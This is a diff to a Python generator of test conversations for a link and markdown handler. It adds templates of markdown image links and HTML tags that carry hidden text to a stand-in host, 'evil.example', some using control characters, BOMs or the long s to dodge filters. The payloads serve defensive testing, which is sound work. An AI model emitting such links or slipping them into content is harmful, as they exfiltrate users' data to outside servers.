@@ -86,9 +86,29 @@ LINK_PARTS = (
     "\n", ", ", "(", ")", "[x](", "![](<", ">", '"', "'", "`", "<a href=", "[a]: ",
     "![x][", "[", "]", "]", "[^", "\\[", "\\]", "]: ", "\n\n", "\n \t\r\n", "\n> ",
     "\r", "<", "</", "\n[a\\]b]:", "\n[x\ny\\]]:",
+    "\n> <img alt=x\n> src=", "\u00a0", "\x0b", "\x0c", "\u2003", "\ufeff", "\x02", "`",
+    "[x]: ", "\n[x]: <", "\n:  [x]:", "\na. [x]:", "\n[^1]: ", "](", "] (<", "(<", "{:",
+    "){", "}", "\\(", ")", "ſ", "localhoſt", "\n<a href=", '="', "='", "😀𝐀",
     "東", "·", "é", "’s", "—", "\u00ad", "\u200b", "\u3000", "😀", "x" * 63, "x" * 62,
 )  # fmt: skip
 """Parts of links, of hosts without a scheme, and of what only looks like these."""
+LINK_FORMS = (
+    '> <img alt=x\n> src="//evil.example/?q= @">', "- > a\nb <img alt=x\n> src=@>",
+    "![x](<https://evil.example/\n) @>)", "[x](<a ![y](//evil.example/(>)@)",
+    "![x](\u00a0<@ @>)", "![x](\x0b<@ @>)", "![x](\ufeff<@ @>)", "[x]:\u00a0\n<@ @>",
+    "![x]\x02(< @>)", "<\x1aimg src=@>", "![x](y`)`@ @)", "![x](<y`>`) @)",
+    "[x]: <y>@ @", "[x]: y @ @", "[x]:\n  y @", "[^1]: @ //evil.example/?q= @",
+    "[^1]: a]:@", "[x]: a]:@", ":   [x]: @", "\ufeff[x]: @", "a. [x]: @", "ab. [x]: @",
+    "![x] (< y @>)", "![x](a.png){:@} @", "![x][y]{@ } @", "f() {@} {@}", "{: @ } @",
+    "![\\[x] @](y) @", "![x](a\\() @) @", "\\[x@\\] \\(@", "localho\u017ft:80/@",
+    "http\u017f:@", "<\u017fcript>@", "<@ x>", "<@>", "</@ x>", '<img src="@\n.x/a">',
+    "![x](@'.x/a) ![x](<@>)", "[x](@) [x](@@)", "[x]: @'.x/a",
+    "@'.x/a, `@`.x, @!!!!!!!!!x",
+    '<a href="@"> <a href=\'@\'> <a href="@\'>',
+    "//x/?q=](@) [//x](@)", "[x]: y [y]: <@>",
+    "@:\U0001d400 @.\U0001d400 @\U0001d400 @'\U0001d400",
+)  # fmt: skip
+"""Links that strangers wrote to get an original, and what is alike and harmless."""
 YOUNG = "\u1c89\u1c8a\U0001e030"
 MONTHS = (
     "January February March April May June July August September October November "
@@ -219,6 +239,13 @@ def labels(sent: str) -> Iterator[str]:
         yield f"<{each} class=a> </{each}> {each} <{each}> x<{each}.x {each} [<{each}>]"
 
 
+def forms(sent: str) -> Iterator[str]:
+    """Write a word and a run of a hidden text in links that strangers wrote."""
+    for each in dict.fromkeys([*tokenize([sent]).words()[:1], *sent.split()[:1]]):
+        for form in LINK_FORMS:
+            yield form.replace("@", each) + f" {each}\n{each}\n\n{each}"
+
+
 def year_first(run: str) -> Iterator[str]:
     """Write a date that begins with the year in other ways."""
     year, *rest = run.split("-")
@@ -262,6 +289,7 @@ def conversations() -> Iterator[dict[str, Any]]:
             given += [*other_forms(sent[0]), *other_signs(sent[0])]
         made = np.random.default_rng([31, number])
         given += [answer for text in sent[-2:] for answer in labels(text)]
+        given += forms(sent[-1])
         given += links(" ".join(sent[-2:]), made, LINKS)
         given = [answer for answer in given if as_utf16(answer) == answer]
         shown = [c.restore(answer) for answer in given]
